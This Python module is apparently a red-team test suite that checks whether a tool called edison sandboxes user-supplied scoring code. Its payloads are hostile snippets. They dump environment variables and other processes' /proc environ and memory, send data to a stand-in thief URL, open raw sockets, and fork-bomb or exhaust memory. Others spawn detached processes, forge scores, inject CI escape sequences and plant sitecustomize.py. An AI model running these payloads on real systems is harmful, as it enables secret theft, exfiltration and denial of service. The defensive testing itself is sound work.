"""Attacks by code checks: what code sees, reaches and leaves, and whose code runs at all."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.redteam.attack import Attack, Variant
from tests.redteam.bench import TRUST

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.redteam.attack import Change
    from tests.redteam.bench import Scene

RUN = ("run", "--yes", "--allow-code", "--against", "main", "--json")
ALLOWED = "version: 1\nproject: greetings\nsettings: {allow_code: true}\n"
HARMLESS = "def check(output, expected, case):\n    return 'Welcome' in output\n"
MARK = "import pathlib\npathlib.Path('{folder}', 'PWNED').write_text('x')\n"
BODIES = {
    "environment": "import os\n    return {'score': 0, 'reason': repr(dict(os.environ))}",
    "other processes": (
        "import glob\n    seen = ''\n    for name in glob.glob('/proc/[0-9]*/environ'):\n"
        "        try:\n            seen += open(name, 'rb').read().decode(errors='replace')\n"
        "        except OSError:\n            pass\n"
        "    return {'score': 0, 'reason': seen[-5000:]}"
    ),
    "parent": (
        "import os\n    seen = []\n    for pid in (os.getppid(), 1):\n        try:\n"
        "            seen.append(open(f'/proc/{pid}/environ').read())\n"
        "            seen.append(open(f'/proc/{pid}/mem', 'rb').read(10))\n"
        "        except OSError as error:\n            seen.append(str(error))\n"
        "    return {'score': 0, 'reason': repr(seen)}"
    ),
    "network": (
        "import urllib.request\n"
        "    urllib.request.urlopen('{thief}/stolen', timeout=2)\n    return False"
    ),
    "other sockets": (
        "import socket\n    socket.create_connection(('127.0.0.1', {port}), 2).sendall("
        "b'GET /raw HTTP/1.1\\r\\n\\r\\n')\n    return False"
    ),
    "forks": "import os\n    while True:\n        os.fork()",
    "sleeps": "import time\n    time.sleep(3600)",
    "turns": "while True:\n        pass",
    "memory": "x = []\n    while True:\n        x.append(bytearray(1 << 24))",
    "talks": "import sys\n    while True:\n        sys.stdout.write('x' * 100000)",
    "outlives": (
        "import os\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n"
        "            import time, pathlib\n            time.sleep(0.7)\n"
        "            pathlib.Path('{folder}', 'PWNED-late').write_text('x')\n    return False"
    ),
    "forges": "import os\n    os.write(1, b'{\"score\": 1}')\n    os._exit(0)",
    "commands": "return {'score': 0, 'reason': '\\n::error::PWNED\\n\\x1b[2J'}",
}
"""What the base's own check does, as if somebody had got it there."""


def _fill(scene: Scene, text: str) -> str:
    thief = scene.site.thief.url
    places = {"{folder}": str(scene.folder), "{thief}": thief, "{port}": thief.rpartition(":")[2]}
    for name, value in places.items():
        text = text.replace(name, value)
    return text


def _base(body: str, *, allow: bool = True) -> Change:
    """Let the base have a code check, of a function with this body, in few cases."""

    def base(scene: Scene) -> None:
        trust = TRUST.format(host=scene.site.model.url)
        allowed = "code: {allow: true, paths: [checks]}\n" if allow else ""
        scene.write(".edison/trust.yaml", trust + allowed)
        scene.write("checks/mine.py", _fill(scene, body))
        scene.write("edison.yaml", ALLOWED)
        scene.add("experiments/hello.yaml", "max_errors: 100%\n")
        scene.edit("experiments/hello.yaml", "contains: Welcome", "python: checks/mine.py:check")
        rows = scene.read("datasets/names.jsonl").splitlines(keepends=True)
        scene.write("datasets/names.jsonl", "".join(rows[:2]))

    return base


def _worse(scene: Scene) -> None:
    scene.worsen()


def _head(name: str, check: str = "", *, allowed: bool = True) -> Change:
    """Let the head bring code of its own."""

    def change(scene: Scene) -> None:
        scene.worsen()
        text = _fill(scene, MARK) + HARMLESS
        scene.write(name, text).chmod(0o755)
        if check:
            scene.edit("experiments/hello.yaml", "python: checks/mine.py:check", check)
        scene.write("edison.yaml", ALLOWED)
        if allowed:
            trust = TRUST.format(host=scene.site.model.url)
            scene.write(
                ".edison/trust.yaml", f"{trust}code: {{allow: true, paths: [checks, more]}}\n"
            )

    return change


def _fixed() -> Iterator[Variant]:
    for name, body in BODIES.items():
        text = f"def check(output, expected, case):\n    {body}\n"
        yield Variant(f"base: {name}", _worse, _base(text), command=RUN, may_pass=True)
    heads = {
        "changed": _head("checks/mine.py"),
        "another file": _head("checks/other.py", "python: checks/other.py:check"),
        "a folder that is not allowed": _head("more/mine.py", "python: more/mine.py:check"),
        "a program": _head("checks/run.py", "command: [python3, checks/run.py]"),
        "a program by its path": _head("checks/run.py", "command: [./checks/run.py]"),
        "a program inline": _head(
            "checks/run.py", 'command: [python3, -c, \'open("PWNED", "w")\']'
        ),
        "imported beside": _head("checks/json.py"),
        "customized": _head("sitecustomize.py"),
    }
    for name, change in heads.items():
        for allow in (True, False):
            whose = "base allows its own" if allow else "base allows none"
            for command in (RUN, ("github", "run")):
                yield Variant(
                    f"head: {name}, {whose}, {command[0]}", change,
                    _base(HARMLESS, allow=allow), command=command, may_pass=True,
                )  # fmt: skip


ATTACKS = (
    Attack(
        "code",
        "code of the base sees no key and no network and ends; code of the head does not run",
        _fixed,
    ),
)
